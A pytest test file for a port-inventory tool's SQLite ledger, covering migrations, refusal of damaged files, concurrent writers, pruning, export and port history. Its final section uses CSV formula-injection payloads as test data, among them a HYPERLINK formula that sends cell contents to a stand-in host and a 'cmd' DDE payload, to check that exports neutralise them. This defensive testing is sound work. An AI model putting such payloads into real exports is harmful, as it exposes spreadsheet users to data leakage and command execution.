"""The ledger: schema migrations, refusing damaged and newer files without touching them,
several processes writing at once, retention, export, and a port's history from real runs
(`ls --record` around a listener this test opens, a real scan of it, `fw check --record`).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import socket
import sqlite3
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fixtures_bad_input import assert_usage_error, run_main
from portkit._spreadsheet import FORMULA_STARTS, csv_field, spreadsheet_text, write_csv_row
from portkit.ledger import (
    INVENTORY,
    MIGRATIONS,
    SCHEMA_VERSION,
    Ledger,
    LedgerDamaged,
    LedgerTooNew,
    Owner,
    PortFact,
    Sighting,
    build_history,
    port_history,
)
from portkit.ledger._schema import connect

REPO = Path(__file__).resolve().parent.parent


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def fact(port: int, owner: str = "sshd", pid: int = 1, address: str = "0.0.0.0", unit: str = "") -> PortFact:
    return PortFact(
        port=port,
        protocol="tcp",
        host="h",
        state="listening",
        address=address,
        exposure="all",
        owners=(Owner(owner, exe=f"/usr/sbin/{owner}", user="root", unit=unit, pid=pid),),
    )


# --- schema ----------------------------------------------------------------------------------


def test_a_new_ledger_has_the_current_schema_in_wal_mode(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "dir" / "ledger.db"
    with Ledger.open(path) as ledger:
        assert ledger.schema_version == SCHEMA_VERSION == len(MIGRATIONS)
    db = sqlite3.connect(path)
    assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    assert db.execute("PRAGMA application_id").fetchone()[0] == 0x706B6C67
    assert oct(path.parent.stat().st_mode & 0o777) == "0o700"


def test_a_version_1_ledger_is_migrated_and_keeps_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "v1.db"
    old = connect(path, busy_timeout=5, create=True, upto=1)
    assert old.execute("PRAGMA user_version").fetchone()[0] == 1
    assert not old.execute("SELECT name FROM sqlite_master WHERE name = 'events'").fetchall()
    Ledger(old, path).record(INVENTORY, [fact(22), fact(80)], host="h", time=1000.0)
    old.close()
    with Ledger.open(path) as ledger:
        assert ledger.schema_version == SCHEMA_VERSION
        assert ledger.counts() == {"observations": 1, "facts": 2, "events": 0}
        ledger.record_event("listener-opened", {"pid": 5}, port=22, protocol="tcp", time=1001.0)
        story = port_history(ledger, 22, "tcp")
    assert story.first_seen == 1000.0 and [e.kind for e in story.events] == ["listener-opened"]
    # the migrated file has the schema a new one has
    fresh = tmp_path / "new.db"
    Ledger.open(fresh).close()

    def schema(p: Path) -> list[tuple[str, str]]:
        rows = sqlite3.connect(p).execute("SELECT name, sql FROM sqlite_master ORDER BY name").fetchall()
        return [(str(n), " ".join(str(s).split())) for n, s in rows]

    assert schema(path) == schema(fresh)


@pytest.mark.parametrize(
    "content",
    [
        b"this is not a database at all\n" * 100,
        b"SQLite format 3\x00" + b"\xff" * 4000,
        b"\x00" * 8192,
        b"\x00",  # SQLite alone would take a file shorter than its header for an empty database
        b"SQLite format 3",
    ],
    ids=["text", "bad-header", "zeros", "one-byte", "header-cut"],
)
def test_a_damaged_file_is_refused_in_one_line_and_left_as_it_was(content: bytes, tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    path.write_bytes(content)
    before = digest(path)
    with pytest.raises(LedgerDamaged):
        Ledger.open(path)
    for args in (
        ("history", "22", "--db", str(path)),
        ("ledger", "export", "--db", str(path)),
        ("ledger", "prune", "--older-than", "1d", "--db", str(path)),
        ("ls", "--record", "--db", str(path), "--json"),
        ("diff", "@1", "@2", "--db", str(path)),
    ):
        line = assert_usage_error(run_main(*args), "invalid ledger", "left as it is")
        assert "Traceback" not in line
    assert digest(path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ledger.db"]  # no -wal, no -journal


def test_a_truncated_ledger_is_refused_and_left_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    with Ledger.open(path) as ledger:
        for i in range(200):
            ledger.record(INVENTORY, [fact(22 + i % 50)], host="h", time=float(i))
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 3])
    before = digest(path)
    result = run_main("history", "22", "--db", str(path))
    assert (
        result.status in (1, 2) and "Traceback" not in result.stderr and "internal error" not in result.stderr
    )
    assert len(result.stderr.splitlines()) <= 1
    assert digest(path) == before or result.status == 2


def test_a_ledger_out_of_wal_mode_is_checked_before_it_is_switched(tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    with Ledger.open(path) as ledger:
        for i in range(300):
            ledger.record(INVENTORY, [fact(22 + i % 50)], host="h", time=float(i))
    db = sqlite3.connect(path)
    db.execute("PRAGMA journal_mode = DELETE")  # as a copy made with sqlite3's .backup is
    db.close()
    healthy = path.read_bytes()
    raw = bytearray(healthy)
    raw[len(raw) // 2 : len(raw) // 2 + 64] = b"\xa5" * 64  # a page in the middle
    path.write_bytes(bytes(raw))
    assert_usage_error(run_main("history", "22", "--db", str(path)), "damaged")
    assert path.read_bytes() == bytes(raw)
    path.write_bytes(healthy)
    with Ledger.open(path) as ledger:
        assert ledger.counts()["observations"] == 300
    assert sqlite3.connect(path).execute("PRAGMA journal_mode").fetchone()[0] == "wal"


def test_another_programs_database_is_not_a_ledger(tmp_path: Path) -> None:
    path = tmp_path / "other.db"
    db = sqlite3.connect(path)
    db.execute("CREATE TABLE songs (title TEXT)")
    db.commit()
    db.close()
    before = digest(path)
    assert_usage_error(run_main("ledger", "info", "--db", str(path)), "not a portkit ledger")
    assert digest(path) == before


def test_a_newer_schema_is_refused_with_exit_1_and_left_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    with Ledger.open(path) as ledger:
        ledger.record(INVENTORY, [fact(22)], host="h")
    db = sqlite3.connect(path)
    db.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 7}")
    db.commit()
    db.close()
    before = digest(path)
    with pytest.raises(LedgerTooNew):
        Ledger.open(path)
    result = run_main("history", "22", "--db", str(path))
    assert result.status == 1
    (line,) = result.stderr.splitlines()
    assert f"schema version {SCHEMA_VERSION + 7}" in line and "newer portkit" in line
    assert digest(path) == before


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root (setpriv to another user)")
def test_another_user_reads_a_ledger_it_may_not_write(tmp_path: Path) -> None:
    """Root's ledger in a directory only root may write (/var/lib/portkit): with no writer
    connected there is no WAL index beside it, and SQLite cannot make one for a reader who may
    not write there. Reading commands still read it; writing ones say it is read-only, in one
    line; the file is left as it was."""
    import shutil
    import tempfile

    home = Path(tempfile.mkdtemp(prefix="pk-ledger-ro-", dir="/tmp"))
    try:
        home.chmod(0o755)
        path = home / "ledger.db"
        with Ledger.open(path) as ledger:
            ledger.record(INVENTORY, [fact(22)], host="h", time=1000.0)
        path.chmod(0o644)
        assert not path.with_name("ledger.db-shm").exists()  # no writer holds the index open
        before = digest(path)
        nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "env", "HOME=/tmp"]
        nobody += ["XDG_CONFIG_HOME=/nonexistent-portkit-config", sys.executable, "-m", "portkit"]

        def run(*args: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(
                [*nobody, *args, "--db", str(path)], capture_output=True, text=True, timeout=60, check=False
            )

        info = run("ledger", "info", "--json")
        assert info.returncode == 0, info.stderr
        assert json.loads(info.stdout)["observations"] == 1
        history = run("history", "22/tcp", "--json")
        assert history.returncode == 0 and json.loads(history.stdout)["first_seen"] == 1000.0, history.stderr
        assert run("ledger", "export", "--csv").stdout.count("\n") == 2
        for args in (("ledger", "prune", "--older-than", "0s"), ("ls", "--record")):
            refused = run(*args)
            assert refused.returncode == 1 and refused.stderr.count("\n") == 1, refused.stderr
            assert "read-only" in refused.stderr and "Traceback" not in refused.stderr
        assert digest(path) == before
        assert sorted(p.name for p in home.iterdir()) == ["ledger.db"]
        # A writer killed mid-life leaves records in its write-ahead log: without its index
        # they cannot be read by this user, which is said rather than a partial ledger shown.
        killed = textwrap.dedent(f"""
            import os, signal
            from portkit.ledger import INVENTORY, Ledger, PortFact
            ledger = Ledger.open({str(path)!r})
            ledger.record(INVENTORY, [PortFact(23, "tcp", "h", "listening")], host="h")
            os.kill(os.getpid(), signal.SIGKILL)
        """)
        subprocess.run([sys.executable, "-c", killed], timeout=60, check=False)
        path.with_name("ledger.db-shm").unlink()
        assert path.with_name("ledger.db-wal").stat().st_size > 0
        logged = run("ledger", "info")
        assert logged.returncode == 1 and "write-ahead log" in logged.stderr, logged.stderr
        assert logged.stderr.count("\n") == 1
    finally:
        shutil.rmtree(home)


def test_a_missing_ledger_is_said_in_one_line(tmp_path: Path) -> None:
    result = run_main("history", "22", "--db", str(tmp_path / "none.db"))
    assert result.status == 1 and "nothing was recorded yet" in result.stderr
    assert not (tmp_path / "none.db").exists()
    assert_usage_error(run_main("history", "22", "--db", str(tmp_path)), "is a directory")


@pytest.mark.parametrize("command", [("history", "22"), ("ledger", "info"), ("ls", "--record", "--json")])
def test_a_device_or_fifo_is_no_ledger(command: tuple[str, ...], tmp_path: Path) -> None:
    """/dev/null made sqlite3 fail mid-transaction (exit 1, its message); a FIFO hung the read."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    for path in ("/dev/null", str(fifo)):
        assert_usage_error(run_main(*command, "--db", path), "not a regular file")


# --- several writers at once -------------------------------------------------------------------

WRITER = textwrap.dedent(
    """
    import sys, time
    from portkit.ledger import INVENTORY, Ledger, Owner, PortFact
    path, ident, count, start = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    while time.time() < start:
        time.sleep(0.001)
    with Ledger.open(path, busy_timeout=60) as ledger:
        for i in range(count):
            if ident % 2:
                ledger.record_event("listener-opened", {"writer": ident, "i": i}, port=1000 + ident)
            else:
                facts = [PortFact(1000 + ident, "tcp", "h", "listening", owners=(Owner("w", pid=ident),))] * 3
                ledger.record(INVENTORY, facts, host="h", data={"writer": ident, "i": i})
    """
)


def test_several_processes_writing_at_once_lose_no_row(tmp_path: Path) -> None:
    """Eight processes (observations and events) open a new file at the same instant and write,
    while three `portkit ls --record` runs record into it."""
    path = tmp_path / "shared.db"
    writers, count = 8, 60
    start = time.time() + 1.5
    env = {**os.environ, "PYTHONPATH": str(REPO / "src")}
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", WRITER, str(path), str(i), str(count), str(start)],
            env=env,
            stderr=subprocess.PIPE,
            text=True,
        )
        for i in range(writers)
    ]
    # and CLI runs recording at the same time (the console script, as a user runs it)
    clis = 3
    while time.time() < start:
        time.sleep(0.001)
    procs += [
        subprocess.Popen(
            [sys.executable, "-m", "portkit", "ls", "--record", "--db", str(path)],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(clis)
    ]
    try:
        for proc in procs:
            _, err = proc.communicate(timeout=180)
            assert proc.returncode == 0, err
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
    with Ledger.open(path) as ledger:
        counts = ledger.counts()
        cli_runs = [o for o in ledger.summaries(INVENTORY) if o.source == "portkit ls"]
        assert len(cli_runs) == clis
        counts["observations"] -= clis
        counts["facts"] -= sum(len(ledger.observation(o.id).facts) for o in cli_runs)  # type: ignore[union-attr]
        assert counts == {
            "observations": writers // 2 * count,
            "facts": writers // 2 * count * 3,
            "events": writers // 2 * count,
        }
        for ident in range(writers):
            if ident % 2:
                assert len(ledger.events(1000 + ident)) == count
            else:
                assert len(ledger.sightings(1000 + ident)) == count * 3
    db = sqlite3.connect(path)
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


# --- retention and export ------------------------------------------------------------------------


def test_history_reads_through_the_port_index(tmp_path: Path) -> None:
    with Ledger.open(tmp_path / "ledger.db") as ledger:
        for protocol, host in ((None, None), ("tcp", None), ("udp", "192.0.2.1")):
            query, args = ledger.sightings_query(22, protocol, host)
            plan = str(ledger._db.execute(f"EXPLAIN QUERY PLAN {query}", args).fetchall())
            assert "USING INDEX port_facts_port" in plan, plan
        plan = str(ledger._db.execute("EXPLAIN QUERY PLAN SELECT id FROM events WHERE port = 22").fetchall())
        assert "events_port" in plan, plan


def test_prune_removes_what_is_older_with_its_facts(tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    now = time.time()
    with Ledger.open(path) as ledger:
        ledger.record(INVENTORY, [fact(22), fact(80)], host="h", time=now - 100 * 86400)
        ledger.record(INVENTORY, [fact(22)], host="h", time=now - 10 * 86400)
        ledger.record_event("scan", {"source": "192.0.2.9"}, time=now - 95 * 86400)
        ledger.record_event("scan", {"source": "192.0.2.9"}, time=now - 1)
    result = run_main("ledger", "prune", "--older-than", "90d", "--db", str(path), "--json")
    assert result.status == 0, result.stderr
    doc = json.loads(result.stdout)
    assert (doc["observations"], doc["facts"], doc["events"]) == (1, 2, 1)
    with Ledger.open(path) as ledger:
        assert ledger.counts() == {"observations": 1, "facts": 1, "events": 1}
        assert [s.time for s in ledger.sightings(80)] == []
    text = run_main("ledger", "prune", "--older-than", "2w", "--db", str(path)).stdout
    assert text.startswith("Pruned 0 observations")
    for bad in ("90", "90y", "-1d", "d", "9" * 50 + "d", "²d"):
        assert_usage_error(
            run_main("ledger", "prune", "--older-than", bad, "--db", str(path)), "invalid --older-than"
        )


def test_prune_compacts_the_file(tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    now = time.time()
    with Ledger.open(path) as ledger:
        facts = [fact(p) for p in range(1000, 1040)]
        for day in range(200):
            ledger.record(INVENTORY, facts, host="h", time=now - (300 - day) * 86400)
        ledger.record(INVENTORY, [fact(22)], host="h", time=now - 1)
    grown = path.stat().st_size
    result = run_main("ledger", "prune", "--older-than", "90d", "--db", str(path), "--json")
    assert result.status == 0, result.stderr
    doc = json.loads(result.stdout)
    assert doc["observations"] == 200 and doc["compacted"] is True
    assert doc["size_before"] == grown and doc["size_after"] == path.stat().st_size < grown // 4
    with Ledger.open(path) as ledger:
        assert ledger.counts() == {"observations": 1, "facts": 1, "events": 0}
    again = run_main("ledger", "prune", "--older-than", "90d", "--db", str(path), "--json")
    assert json.loads(again.stdout)["compacted"] is False  # nothing deleted, nothing to do


def test_export_json_and_csv_hold_every_row(tmp_path: Path) -> None:
    path = tmp_path / "ledger.db"
    with Ledger.open(path) as ledger:
        ledger.record(
            INVENTORY, [fact(22), fact(443, owner="nginx", unit="nginx.service")], host="h", time=1.0
        )
        ledger.record_diagnosis(
            {"kind": "reach", "target": "192.0.2.1:443/tcp", "code": "FILTERED"}, time=2.0
        )
        ledger.record_event("owner-changed", {"from": "a", "to": "b"}, port=443, protocol="tcp", time=3.0)
    out = run_main("ledger", "export", "--json", "--db", str(path))
    assert out.status == 0, out.stderr
    doc = json.loads(out.stdout)
    assert doc["schema_version"] == SCHEMA_VERSION
    assert [o["kind"] for o in doc["observations"]] == ["inventory", "diagnosis"]
    assert doc["observations"][1]["facts"][0]["state"] == "FILTERED"
    assert doc["observations"][0]["facts"][1]["owners"][0]["unit"] == "nginx.service"
    assert doc["events"][0]["fields"] == {"from": "a", "to": "b"}
    rows = list(csv.DictReader(io.StringIO(run_main("ledger", "export", "--csv", "--db", str(path)).stdout)))
    assert [(r["record"], r["port"], r["state"]) for r in rows] == [
        ("fact", "22", "listening"),
        ("fact", "443", "listening"),
        ("fact", "443", "FILTERED"),
        ("event", "443", ""),
    ]
    assert rows[1]["owners"] == "nginx/1 (nginx.service)"


# --- history ----------------------------------------------------------------------------------


def sighting(t: float, f: PortFact) -> Sighting:
    return Sighting(int(t), INVENTORY, t, "portkit ls", f)


def test_a_restart_with_a_new_pid_keeps_one_binding_and_a_gap_starts_another() -> None:
    rows = [
        sighting(10, fact(22, pid=100, unit="ssh.service")),
        sighting(20, fact(22, pid=200, unit="ssh.service")),  # restarted: same owner
        sighting(40, fact(22, pid=300, unit="ssh.service")),  # after a snapshot without it (30)
        sighting(50, fact(22, owner="dropbear", pid=301)),  # another program
    ]
    story = build_history(22, "tcp", None, rows, snapshot_times=[10, 20, 30, 40, 50, 60])
    spans = [(b.first, b.last, b.snapshots, b.owners[0].name) for b in story.bindings]
    assert spans == [(10, 20, 2, "sshd"), (40, 40, 1, "sshd"), (50, 50, 1, "dropbear")]
    assert story.bindings[0].owners[0].pid == 200  # the newest pid
    assert (story.first_seen, story.last_seen, story.gone_since) == (10, 50, 60)


def test_a_snapshot_that_could_not_see_the_owner_keeps_the_binding() -> None:
    """A snapshot taken without root sees root's listener but not its owner: that is the
    same binding (owner unknown), not a change of owner, and the next snapshot that sees
    the owner carries it on; another program is still another binding."""
    unseen = PortFact(port=22, protocol="tcp", host="h", state="listening", address="0.0.0.0", exposure="all")
    rows = [
        sighting(10, fact(22, pid=100)),
        sighting(20, unseen),
        sighting(30, fact(22, pid=100)),
        sighting(40, fact(22, owner="dropbear", pid=7)),
    ]
    story = build_history(22, "tcp", None, rows, snapshot_times=[10, 20, 30, 40])
    spans = [(b.first, b.last, b.snapshots, b.owners[0].name) for b in story.bindings]
    assert spans == [(10, 30, 3, "sshd"), (40, 40, 1, "dropbear")]
    first = build_history(22, "tcp", None, rows[1:3], snapshot_times=[20, 30])  # unknown first
    assert [(b.first, b.last, b.snapshots, b.owners[0].name) for b in first.bindings] == [(20, 30, 2, "sshd")]


def _keys(value: object) -> set[str]:
    if isinstance(value, dict):
        return set(value) | {k for v in value.values() for k in _keys(v)}
    if isinstance(value, list):
        return {k for v in value for k in _keys(v)}
    return set()


def _history_doc_keys() -> set[str]:
    """The keys docs/json.md shows for `history --json` (`kind`: diagnoses only)."""
    import re

    text = (REPO / "docs" / "json.md").read_text()
    section = text[text.index("### `portkit history PORT") :]
    block = section[section.index("```json") + 7 : section.index("```", section.index("```json") + 7)]
    found = set(re.findall(r'"([a-z_]+)":', block))
    assert len(found) > 20, found
    return found


def test_history_of_a_real_listener_from_recorded_runs(tmp_path: Path) -> None:
    db = str(tmp_path / "ledger.db")
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]
    try:
        assert run_main("ls", "--record", "--db", db, "--json").status == 0
        # 31 ports: the closed ones are collapsed into "Not shown", and still part of history
        scan = run_main(
            "scan", "-sT", "-Pn", "-p", f"{port}-{port + 30}", "127.0.0.1", "--record", "--db", db
        )
        assert scan.status == 0, scan.stderr
        rules = REPO / "tests" / "data" / "bad_input" / "policy.rules"
        check = run_main(
            "fw",
            "check",
            "--rules",
            str(rules),
            "--dst",
            "127.0.0.1",
            "--dport",
            str(port),
            "--record",
            "--db",
            db,
        )
        assert check.status in (0, 1, 3), check.stderr
    finally:
        listener.close()
    time.sleep(0.01)
    assert run_main("ls", "--record", "--db", db).status == 0
    result = run_main("history", f"{port}/tcp", "--db", db, "--json")
    assert result.status == 0, result.stderr
    story = json.loads(result.stdout)
    (binding,) = story["bindings"]
    assert binding["address"] == "127.0.0.1" and binding["exposure"] == "loopback"
    assert binding["owners"][0]["pid"] == os.getpid()
    assert story["gone_since"] is not None and story["gone_since"] > story["last_seen"]
    assert [(s["host"], s["state"]) for s in story["scans"]] == [("127.0.0.1", "open")]
    (rule,) = story["rules"]
    assert len(rule["fingerprint"]) == 64 and rule["state"] in ("accept", "drop", "reject", "uncertain")
    assert _history_doc_keys() - {"kind"} <= _keys(story), "a key docs/json.md shows is missing"
    text = run_main("history", str(port), "--db", db).stdout
    assert "Owners and bind addresses" in text and "What scans saw" in text and "not listening since" in text
    # who --record is history but not a snapshot; --host filters by scanned address
    assert (
        json.loads(run_main("history", str(port), "--host", "192.0.2.1", "--db", db, "--json").stdout)[
            "scans"
        ]
        == []
    )
    closed = json.loads(run_main("history", f"{port + 7}/tcp", "--db", db, "--json").stdout)
    assert [(s["host"], s["state"]) for s in closed["scans"]] == [("127.0.0.1", "closed")]
    assert closed["first_seen"] is None and closed["bindings"] == []
    nothing = run_main("history", "1/udp", "--db", db)
    assert nothing.status == 1 and "Nothing recorded about port 1/udp" in nothing.stdout


def test_the_same_rules_read_twice_have_one_fingerprint(tmp_path: Path) -> None:
    db = tmp_path / "ledger.db"
    rules = REPO / "tests" / "data" / "bad_input"
    for command, name in (
        (("fw", "show"), "policy.rules"),
        (("fw", "lint", "--fail-on", "never"), "policy.rules"),
        (("fw", "export", "--to", "nft"), "iptables.rules"),
    ):
        result = run_main(*command, str(rules / name), "--record", "--db", str(db))
        assert result.status == 0, result.stderr
    with Ledger.open(db) as ledger:
        prints = [o.data["fingerprint"] for o in ledger.observations()]
    assert prints[0] == prints[1] != prints[2]


@pytest.mark.parametrize("port", ["70000", "-1", "22/icmp", "²", "", "9" * 5000])
def test_bad_history_ports_are_one_line(port: str, tmp_path: Path) -> None:
    assert_usage_error(run_main("history", port, "--db", str(tmp_path / "x.db")))


# --- the config file -------------------------------------------------------------------------


def test_record_true_in_the_config_records_every_observing_command(tmp_path: Path) -> None:
    config = Path(os.environ["XDG_CONFIG_HOME"]) / "portkit" / "config.toml"
    config.parent.mkdir(parents=True)
    db = tmp_path / "from-config.db"
    config.write_text(f'record = true\ndb = "{db}"\n')
    assert run_main("ls", "--json").status == 0
    assert run_main("ls", "--no-record").status == 0
    # the console script too: its Click-free lane for `ls --json` must not skip recording
    env = {**os.environ, "PYTHONPATH": str(REPO / "src")}
    proc = subprocess.run(
        [sys.executable, "-c", "from portkit.cli.entry import main; main()", "ls", "--json"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    with Ledger.open(db) as ledger:
        assert ledger.counts()["observations"] == 2
    for bad, fragment in (
        ("record = 1\n", "record must be true or false"),
        ("recrod = true\n", "unknown key 'recrod'"),
        ("record = [\n", "invalid config file"),
        ('db = ""\n', "db must be a file path"),
    ):
        config.write_text(bad)
        assert_usage_error(run_main("ls", "--json"), fragment)
    config.write_bytes(b"record = true\xff\n")
    assert_usage_error(run_main("scan", "-p", "1", "127.0.0.1"), "not UTF-8")


def test_the_fast_lane_and_the_cli_agree_on_where_the_config_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from portkit.cli._record import config_path
    from portkit.cli.entry import _config_may_record

    for env in (
        {"XDG_CONFIG_HOME": str(tmp_path / "x")},
        {"XDG_CONFIG_HOME": "", "HOME": str(tmp_path / "h")},
    ):
        for key in ("XDG_CONFIG_HOME", "HOME", "PORTKIT_CONFIG"):
            monkeypatch.delenv(key, raising=False)
        for key, value in env.items():
            monkeypatch.setenv(key, value)
        path = config_path(os.environ)
        assert tmp_path in path.parents
        assert not _config_may_record()
        path.parent.mkdir(parents=True)
        path.write_text("record = false\n")
        assert _config_may_record()


def test_diagnoses_are_recorded_and_show_in_history(tmp_path: Path) -> None:
    """`diagnose --record` (both forms) keeps the diagnosis; `history` lists its code."""
    db = str(tmp_path / "ledger.db")
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()  # nothing listens there now
    reach = run_main("diagnose", f"127.0.0.1:{port}", "--record", "--db", db, "--json")
    assert reach.status == 1, reach.stderr
    # The kernel chose that port from the ephemeral range: a bind there is EPHEMERAL_RANGE.
    bind = run_main("diagnose", "--bind", f"127.0.0.1:{port}", "--record", "--db", db, "--json")
    assert bind.status == 1, bind.stderr
    history = run_main("history", str(port), "--db", db, "--json")
    assert history.status == 0, history.stderr
    text = history.stdout
    assert "NO_LISTENER" in text and "EPHEMERAL_RANGE" in text, text


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root (network namespaces)")
def test_a_snapshot_of_one_namespace_says_nothing_of_the_others(tmp_path: Path) -> None:
    """`ls --record` reads this namespace only, `ls --all-netns --record` every one: a listener
    in a lab namespace seen by the second, then not by the first, then again by the second is
    one binding (not gone in between), and diff between the two kinds leaves that namespace
    uncompared (saying so); once the namespace is deleted, the next --all-netns snapshot does
    say it is gone."""
    from fixtures_audit import holding_listeners
    from portkit.testing import LabNamespace

    db = str(tmp_path / "ledger.db")
    port = 7411
    with LabNamespace("pkle") as lab, holding_listeners(lab, [f"0.0.0.0:{port}"]):
        for args in (("--all-netns",), (), ("--all-netns",)):
            assert run_main("ls", *args, "--record", "--db", db).status == 0
            time.sleep(0.01)
        story = json.loads(run_main("history", f"{port}/tcp", "--db", db, "--json").stdout)
        ours = [b for b in story["bindings"] if b["netns"] == lab.name]
        assert [b["snapshots"] for b in ours] == [2] and story["gone_since"] is None, story
        for a, b in (("@1", "@2"), ("@2", "@3")):
            result = run_main("diff", a, b, "--db", db, "--json")
            doc = json.loads(result.stdout)
            assert lab.name in doc["not_compared"], doc
            assert not any(p["netns"] == lab.name for p in doc["ports"]), doc
        text = run_main("diff", "@1", "@2", "--db", db).stdout
        assert "not compared:" in text and "--all-netns" in text
        name = lab.name
    assert run_main("ls", "--all-netns", "--record", "--db", db).status == 0
    story = json.loads(run_main("history", f"{port}/tcp", "--db", db, "--json").stdout)
    assert story["gone_since"] is not None and story["gone_since"] > story["last_seen"]
    gone = json.loads(run_main("diff", "@3", "@4", "--db", db, "--json").stdout)
    assert [(p["netns"], p["port"], p["changes"]) for p in gone["ports"] if p["netns"] == name] == [
        (name, port, ["closed"])
    ]


# --- CSV export: formula injection ----------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_field_that_a_spreadsheet_would_evaluate_gets_a_leading_quote(start: str) -> None:
    value = f"{start}HYPERLINK(\"http://192.0.2.1/?\"&A1)"
    field = next(csv.reader(io.StringIO(csv_field(value) + "\n")))
    assert field == ["'" + value]
    assert csv_field("sshd") == "sshd" and csv_field("a=b") == "a=b" and csv_field(-1) == "-1"


@given(st.lists(st.one_of(st.text(), st.integers(min_value=0)), min_size=1, max_size=5))
def test_csv_rows_read_back_as_the_values_with_no_cell_a_formula(values: list[str | int]) -> None:
    out = io.StringIO()
    write_csv_row(out, values)
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert row == [str(v) if isinstance(v, int) else spreadsheet_text(v) for v in values]
    assert not [f for f in row if f[:1] in FORMULA_STARTS]


def test_a_csv_field_holding_a_semicolon_is_quoted_so_no_locale_splits_it() -> None:
    # Spreadsheets in locales whose list separator is ";" split an unquoted field there.
    assert csv_field("nginx/1; =cmd|'/c calc'!A1/2") == "\"nginx/1; =cmd|'/c calc'!A1/2\""
    assert csv_field('say "hi", then') == '"say ""hi"", then"'


def test_a_process_named_like_a_formula_is_exported_as_text_in_csv_and_raw_in_json(tmp_path: Path) -> None:
    """A real listener whose process name (any user sets it) starts a spreadsheet formula."""
    db = str(tmp_path / "ledger.db")
    name = "=HYPERLINK(1,2)"  # 15 bytes, the most /proc/PID/comm holds
    child = subprocess.Popen(
        [
            sys.executable,
            "-c",
            textwrap.dedent(f"""
                import socket, sys
                open("/proc/self/comm", "w").write({name!r})
                s = socket.socket()
                s.bind(("127.0.0.1", 0))
                s.listen()
                print(s.getsockname()[1], flush=True)
                sys.stdin.read()
            """),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert child.stdout is not None
        port = int(child.stdout.readline())
        recorded = run_main("ls", "--record", "--db", db, "--json")
        assert recorded.status == 0, recorded.stderr
    finally:
        child.kill()
        child.wait()
    exported = run_main("ledger", "export", "--csv", "--db", db)
    assert exported.status == 0, exported.stderr
    (row,) = [r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["port"] == str(port)]
    assert row["owners"] == f"'{name}/{child.pid}"
    every_field = [f for r in csv.reader(io.StringIO(exported.stdout)) for f in r]
    assert not [f for f in every_field if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    doc = json.loads(run_main("ledger", "export", "--json", "--db", db).stdout)
    (fact_doc,) = [f for o in doc["observations"] for f in o["facts"] if f["port"] == port]
    assert fact_doc["owners"][0]["name"] == name
